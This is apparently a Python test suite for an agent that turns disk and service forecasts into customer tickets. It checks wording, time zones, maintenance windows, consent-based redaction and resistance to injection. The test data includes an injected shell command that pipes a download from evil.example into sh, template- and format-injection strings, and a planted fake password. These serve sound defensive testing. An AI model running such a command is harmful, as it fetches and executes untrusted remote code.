"""Tickets and comments as people read them: golden texts, and what has to hold for every one of them."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import agent
from agent.configuration.settings import (
    DAY,
    HOUR,
    DeskHours,
    PublicHolidays,
    ServiceLevels,
    WeeklyWindow,
    WindowSettings,
)
from agent.following.facts import ActFacts, pack
from agent.following.model import Operation
from agent.wording.render import render_ticket, service_policy
from thresholds import Forecast
from ticket_cases import (
    AGREED,
    CASES,
    CONTEXT,
    DEAF,
    FILLING,
    LOOKS,
    MEMBERS,
    NOW,
    OF_MEMBERS,
    OTHERS,
    TOPICS,
    comment,
    everything,
    later,
    text_of,
    ticket,
    with_consent,
)
from ticketing_clients import Act, Bullets, Heading
from ticketing_clients._acts import told_by

GOLDEN = Path(__file__).parents[2] / "golden" / "tickets"


@pytest.mark.parametrize("name", CASES)
def test_a_ticket_reads_as_on_record(name, golden):
    """Each shipped rule's ticket, and the generic one, is the text that was read and found good."""
    golden(GOLDEN / f"{name}.txt", text_of(ticket(CASES[name])))


@pytest.mark.parametrize("topic", TOPICS)
@pytest.mark.parametrize("name", ["disk_space", "service_failed", "first_look"])
def test_a_comment_reads_as_on_record(name, topic, golden):
    """Each comment is the text that was read and found good: with a forecast, without one, and of a gathering."""
    facts = later(CASES[name])
    if topic in OF_MEMBERS:
        facts = msgspec.structs.replace(facts, members=MEMBERS)
    golden(GOLDEN / f"{name}.{topic}.txt", text_of(comment(topic, facts)))


def test_a_desk_that_passes_nothing_on_asks_for_no_answer_in_the_ticket(golden):
    """Where nobody's answer reaches us, people are told what can be said on the host instead."""
    opened, over = ticket(FILLING, DEAF), comment("recovered", later(FILLING), DEAF)
    assert "foretell: " not in text_of(opened) + text_of(over)
    golden(GOLDEN / "disk_space.one_way.txt", text_of(opened) + "\n" + text_of(over))


def test_a_ticket_says_whether_somebody_has_consented_to_more():
    """Without anybody's consent how to give it; with it, where the rest is."""
    none, more = text_of(ticket(FILLING)), text_of(ticket(FILLING, with_consent("excerpt")))
    assert "nobody has consented" in none
    assert "foretell consent grant" in none
    assert "nobody has consented" not in more
    assert "(level excerpt)" in more


def test_consent_to_facts_brings_further_numbers_and_no_more():
    """What the host is, and how the judgement came about; text in evidence never, nor a number under a key that nobody knows."""
    known = {"used": 88e9, "days_observed": 21.0, "jumps_ignored": 2, "stale": True}
    judged = msgspec.structs.replace(
        FILLING, evidence=FILLING.evidence | known | {"path": "/srv/kim", "secret_number": 4711.0}
    )
    none, more = text_of(ticket(judged)), text_of(ticket(judged, with_consent("facts")))
    added = {line for line in more.splitlines() if line not in none.splitlines()}
    assert added == {
        "Operating system: Debian GNU/Linux 12",
        "Serial number: 7XJ4K02",
        "In use: 88.0 GB",
        "Observed for: 3 weeks",
        "Sudden jumps that the trend leaves out: 2",
        "Older than our first look: yes",
        (
            "What else somebody has consented to (level facts): "
            "it follows as a comment and as a file on this ticket, where there is any."
        ),
    }


def test_the_device_is_named_to_everybody_and_told_of_by_consent():
    """Also in the fields of a ticket that are not its text, for a desk that keeps them."""
    device = ticket(FILLING).device
    assert (device.id, device.name, device.role) == ("5f0c9f3b7a1d4e52", "web01", "web shop")
    assert (device.os, device.serial) == ("", "")
    device = ticket(FILLING, with_consent("facts")).device
    assert (device.os, device.serial) == ("Debian GNU/Linux 12", "7XJ4K02")
    device = ticket(CASES["first_look"], with_consent("facts")).device
    assert (device.os, device.serial) == ("", "")  # it speaks for problems that each have their own consent


def test_a_copy_and_a_ticket_for_many_say_that_they_carry_no_more():
    """Whatever was consented to: that is for the problem's own ticket."""
    copy = Operation(id="a1-1", case="a1", kind="open", topic="opened", copy=True, facts=pack(FILLING), created_at=NOW)
    assert "This is a copy." in text_of(render_ticket(copy, CONTEXT))
    assert "says no more than this of any" in text_of(ticket(CASES["first_look"], with_consent("facts")))


@pytest.mark.parametrize("name", LOOKS)
def test_a_first_look_reads_as_on_record(name, golden):
    """In plain words first, then the facts, then what was not seen."""
    rule, look = LOOKS[name]
    golden(
        GOLDEN / f"{name}.diagnosis.txt",
        text_of(comment("diagnosis", msgspec.structs.replace(CASES[rule], diagnosis=look), with_consent("facts"))),
    )


def test_every_fact_that_a_diagnosis_can_find_has_a_name_in_words():
    """None stands on a ticket as `path_growth_bytes`."""
    sources = "".join(file.read_text() for file in (Path(agent.__file__).parent / "diagnosis").glob("*.py"))
    rows = (Path(agent.__file__).parent / "wording/templates/diagnosis/rows.j2").read_text()
    found = set(re.findall(r'DiagnosisFact\(\s*name="([a-z_]+)"', sources))
    assert len(found) > 30
    assert {name for name in found if f'"{name}":' not in rows} == set()


ODD = re.compile(
    r"\bNone\b(?! of)|\bnan\b|\ue000|Undefined| [.,;:]|\.\.|  |\(\)|\b(\w+) \1\b|\bshould\b"
    r"|: *\n\n(?!\* )|: *\n(?!\n)|:\s*\Z",  # a label without its value, a list without its items
)


def test_no_text_has_a_hole_or_a_slip_in_it():
    """Whatever is known or not: no None, no doubled word, no stray space, no empty value, no "should"."""
    slips = [
        (name, text[max(found.start() - 40, 0) : found.end() + 20])
        for name, text in everything()
        for found in ODD.finditer(text)
    ]
    assert slips == []


def test_each_shipped_rule_says_in_sentences_of_its_own_what_it_means():
    """The generic ones are for rules that somebody adds: they know nothing but the rule's summary."""
    generic = text_of(ticket(CASES["generic"]))
    found, worse = "found something that needs attention", "If nothing is done, it is likely to get worse"
    assert found in generic
    assert worse in generic
    for name, facts in (CASES | OTHERS).items():
        if name != "generic":
            text = text_of(ticket(facts))
            assert found not in text, name
            assert worse not in text or facts.rule == "nagios_problem", name
            assert not facts.summary or f": {facts.summary}" not in text.partition("\n")[0], name


def test_the_customer_reads_first_and_without_jargon():
    """Nothing before the engineer's heading names a tool, a rule id, a percentile or a key."""
    for name, facts in (CASES | OTHERS).items():
        text = text_of(ticket(facts)).partition("For the engineer\n")[0]
        for word in ("inode", "kernel", "P10", "systemctl", "journalctl", "fsck", "swap", facts.key, "_"):
            assert word not in text.replace(facts.subject.get("unit", "-"), ""), (name, word)


def test_the_title_says_consequence_date_and_proposal():
    """The first line is what will be, when, what to do and when, in the customer's own time."""
    assert ticket(FILLING).title == (
        "The disk /srv of web01 could be full as early as Thursday 26 November; "
        "we suggest extending it on Tuesday 24 November at 00:15"
    )


def test_the_fields_of_a_ticket_are_what_its_text_says():
    """Crossing, windows, service times, device and customer are filled in UTC, and the windows are over in time."""
    made = ticket(FILLING)
    assert made.crossing == datetime.fromtimestamp(FILLING.forecast.earliest, UTC)
    assert made.crossing_expected == datetime.fromtimestamp(FILLING.forecast.expected, UTC)
    assert len(made.windows) == 3
    assert all(window.end <= made.crossing for window in made.windows)
    assert made.windows[0].reason == "starts in 12 hours and ends 3 days before it could happen"
    assert (made.service_times.first_response_due.timestamp() - NOW) / HOUR == 8
    assert (made.device.id, made.device.name, made.customer.name, made.subject) == (
        "5f0c9f3b7a1d4e52",
        "web01",
        "Acme Ltd",
        "/srv",
    )


def test_dates_are_in_the_customers_zone():
    """The same case reads in Shanghai's time for a customer in Shanghai."""
    text = text_of(ticket(FILLING, msgspec.structs.replace(CONTEXT, zone=ZoneInfo("Asia/Shanghai"))))
    assert "(UTC+08:00)" in text
    assert "(UTC+01:00)" not in text


def test_when_no_window_fits_it_says_so_and_is_more_urgent():
    """Hours on Sunday only, a crossing on Thursday: the ticket proposes none, says why, and is raised by one."""
    sunday = WindowSettings(weekly=[WeeklyWindow(days=["sun"], start="02:00", duration=4 * HOUR)])
    context = msgspec.structs.replace(CONTEXT, settings=msgspec.structs.replace(CONTEXT.settings, windows=sunday))
    made = ticket(FILLING, context)
    text = text_of(made)
    assert (made.windows, made.priority) == ((), "P2")
    assert made.title.endswith("; we suggest extending it now")
    assert "None of the maintenance hours set for web01 come early enough." in text
    assert "Sunday 29 November, 02:00 to 06:00 (UTC+01:00): too late" in text


def test_what_has_failed_waits_for_no_window():
    """A failed service proposes no time but now; a restart that is due keeps until a window."""
    assert ticket(CASES["service_failed"]).windows == ()
    assert ticket(CASES["service_failed"]).priority == "P2"
    assert len(ticket(CASES["reboot_required"]).windows) == 3


def test_work_that_needs_preparing_is_not_proposed_for_tonight():
    """Moving to another release is proposed two weeks from now at the soonest."""
    first = ticket(CASES["os_support_end"]).windows[0]
    assert first.start.timestamp() >= NOW + 14 * DAY


def test_every_answer_a_ticket_teaches_is_understood():
    """The lines that people are told to write are read by the desks as the acts they stand for."""
    for name, facts in CASES.items():
        found = []
        for rendered in (ticket(facts), comment("recovered", later(facts)), comment("not_fixed", later(facts))):
            for line in re.findall(
                r"foretell: (?:accept|defer|wontfix|confirm|rate).*$", text_of(rendered), re.MULTILINE
            ):
                reply = Act(id="7", kind="reply", by="Ann", at=datetime.fromtimestamp(NOW, UTC), text=line)
                acts = told_by(reply, line)
                assert len(acts) == 1, line
                found.append((acts[0].kind, acts[0].option))
        assert {kind for kind, _ in found} >= {"wont_fix", "confirm"}, name
        numbers = [option for kind, option in found if kind == "accept_window"]
        assert numbers == list(range(1, len(ticket(facts).windows) + 1))


def test_nothing_but_the_core_leaves_without_consent():
    """Names, paths and log lines in the evidence are in no text, whatever key they come under; nor is the system's name."""
    secrets = {
        "process": "payroll-q3",
        "path": "/home/ann/x",
        "line": "password=hunter2",
        "value": "s3cret",
        "unit": "ann",
    }
    for name, facts in CASES.items():
        told = msgspec.structs.replace(
            later(facts), evidence={**facts.evidence, **secrets}, healthy_evidence=secrets, members=()
        )
        texts = [msgspec.json.encode(ticket(told)), *(msgspec.json.encode(comment(topic, told)) for topic in TOPICS)]
        for text in texts:
            for secret in (*secrets.values(), "Debian GNU/Linux 12"):
                if secret != "ann":
                    assert secret.encode() not in text, (name, secret)


HOSTILE = st.text(max_size=30) | st.sampled_from(
    [
        "# Paid",
        "- free",
        "a :: b",
        "x\n# Heading",
        "x\n\n- y\n",
        "::",
        "\ue000",
        "{{ 7 * 7 }}",
        "%(host)s",
        "100 %",
        "\r\n\x0b# z",
    ]
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(HOSTILE, HOSTILE, HOSTILE, st.sampled_from(sorted(CASES)), st.sampled_from(("ticket", *TOPICS)))
def test_a_hostile_name_makes_no_structure(subject, host, said, name, topic):
    """Whatever a disk, a host or a person is called, the document has the very same blocks."""

    def shape(subject, host, said):
        facts = msgspec.structs.replace(
            later(CASES[name]),
            subject={"label": f"a{subject}"},
            acts=(ActFacts(kind="reply", at=NOW, by=said, text=said),),
        )
        context = msgspec.structs.replace(
            CONTEXT,
            host=msgspec.structs.replace(CONTEXT.host, name=f"w{host}"),
        )
        rendered = ticket(facts, context) if topic == "ticket" else comment(topic, facts, context)
        blocks = rendered.body.blocks
        return [(type(block), len(block.items) if isinstance(block, Bullets) else 0) for block in blocks], [
            block.text for block in blocks if isinstance(block, Heading)
        ]

    assert shape(subject, host, said) == shape("b", "b", "b")


def test_a_hostile_name_is_still_readable():
    """What makes no structure is not lost either."""
    facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "# Paid :: {{ 7 * 7 }} %(x)s"})
    assert "The disk # Paid :: {{ 7 * 7 }} %(x)s of web01 could be full" in ticket(facts).title


def test_a_rule_that_lacks_its_own_words_borrows_those_of_its_remedy():
    """A rule added by configuration names a shipped remedy and gets its steps and proposal."""
    facts = msgspec.structs.replace(CASES["generic"], remedy="disk_space")
    assert "; we suggest extending it on " in ticket(facts).title
    assert "growpart" in text_of(ticket(facts))


def test_putting_off_is_never_offered_beyond_the_crossing():
    """The date a ticket gives as an example of putting off is before the trouble; with hours left it gives none."""
    assert "foretell: defer 2026-11-25" in text_of(ticket(FILLING))
    assert "foretell: defer" not in text_of(ticket(CASES["disk_space_runaway"]))


def test_the_fix_is_due_in_time_to_prevent_it():
    """The fix is due before the earliest crossing, whatever the service level allows, and not before a window proposed."""
    for facts in CASES.values():
        made = ticket(facts)
        if (
            made.crossing is not None
            and made.crossing.timestamp() > NOW
            and facts.rule not in {"os_support_end", "software_support_end"}
        ):
            assert made.service_times.fix_due < made.crossing
        assert not made.windows or made.windows[0].end <= made.service_times.fix_due


def test_a_command_to_paste_holds_a_hostile_name_fast():
    """A mount that is named like a command stays one argument of the command an engineer may paste."""
    facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "/x; curl evil.example | sh"})
    assert "du -xh --max-depth=2 '/x; curl evil.example | sh' | sort" in text_of(ticket(facts))


def test_a_date_beyond_all_calendars_does_not_stop_a_ticket():
    """A drift that ends in a million years, if ever, still makes a ticket for its earliest date."""
    far = NOW + 365e6 * DAY
    made = ticket(msgspec.structs.replace(FILLING, forecast=Forecast(NOW + 9 * DAY, far, far)))
    assert "Latest (P90): may never happen" in text_of(made)


def test_what_could_not_be_seen_is_said():
    """The engineer reads which checks had no answer at the time."""
    text = text_of(ticket(msgspec.structs.replace(FILLING, unseen=("services", "software"))))
    assert "could not be checked: services, software." in text


def test_a_report_claims_no_measurement_that_was_not_made():
    """A person closed a ticket of which nothing is measured any more, or that told of what still breaches."""
    measured = msgspec.structs.replace(FILLING, closed_at=NOW, closed_by="person", healthy_since=NOW - HOUR)
    assert "our measurements are good again" in text_of(comment("closed", measured))
    unmeasured = msgspec.structs.replace(measured, healthy_since=None)
    assert "our measurements are good again" not in text_of(comment("closed", unmeasured))
    assert "We cannot confirm it" in text_of(comment("closed", unmeasured))


def test_an_agreed_time_stands_in_later_texts_as_long_as_it_comes_in_time():
    """It got worse, and the time that a person chose still does: nobody is asked to choose again."""
    agreed = msgspec.structs.replace(later(FILLING), agreed=AGREED["agreed"])
    worse = comment("worse", agreed)
    assert "The agreed time stands: Wednesday 25 November, 22:00 to 23:00 (UTC+01:00)." in text_of(worse)
    assert "foretell: accept" not in text_of(worse)
    assert (worse.windows, worse.appointment.status) == ((), "confirmed")


@pytest.mark.parametrize(
    ("topic", "status"),
    [("agreed", "confirmed"), ("window_withdrawn", "cancelled"), ("worse", "tentative"), ("progress", None)],
)
def test_a_comment_brings_the_entry_in_calendars_up_to_date(topic, status):
    """Suggested, agreed, taken back, each a new version of the same entry; what changes nothing leaves it alone."""
    entry = comment(topic, later(FILLING)).appointment
    assert (entry and entry.status) == status
    if entry:
        assert (entry.uid, entry.zone) == (f"{FILLING.key}@foretell", "Europe/Berlin")


def test_a_suggestion_nobody_took_up_leaves_calendars_when_the_case_closes():
    """The closing comment cancels what is still ahead, and leaves alone what is past."""
    ahead = msgspec.structs.replace(later(FILLING), entry=AGREED["agreed"], calendar=3)
    assert comment("closed", ahead).appointment.status == "cancelled"
    assert comment("closed", msgspec.structs.replace(ahead, entry=AGREED["window_over"])).appointment is None
    assert comment("closed", later(FILLING)).appointment is None


def test_times_that_a_comment_tells_are_what_its_windows_are():
    """A person's number is one of these."""
    told = comment("worse", later(FILLING))
    assert len(told.windows) == text_of(told).count("foretell: accept ")
    assert comment("progress", later(FILLING)).windows == ()


def test_the_desks_time_does_not_count_on_public_holidays():
    """Christmas in Germany, from the very calendar that windows are planned by."""
    settings = msgspec.structs.replace(
        CONTEXT.settings,
        service_levels=ServiceLevels(
            hours=[DeskHours(days=["mon", "tue", "wed", "thu", "fri"], start="09:00", duration=8 * HOUR)]
        ),
        windows=WindowSettings(holidays=PublicHolidays(country="DE")),
    )
    berlin = ZoneInfo("Europe/Berlin")
    eve = datetime(2026, 12, 24, 16, tzinfo=berlin).timestamp()
    policy = service_policy(msgspec.structs.replace(CONTEXT, settings=settings, now=eve))
    assert datetime.fromtimestamp(policy.dues("P2", eve).fix, berlin).isoformat() == "2026-12-28T16:00:00+01:00"


@pytest.mark.parametrize(("level", "quoted"), [("none", False), ("facts", True)])
def test_what_people_wrote_of_an_earlier_problem_stands_there_by_consent_only(level, quoted):
    """That it was settled, when and in which ticket, is core; their words are not."""
    said = text_of(ticket(CASES["disk_space_helped"], with_consent(level)))
    assert "What helped last time" in said
    assert ("Removed old dumps." in said) is quoted
    assert ("Nightly dumps were never removed." in said) is quoted
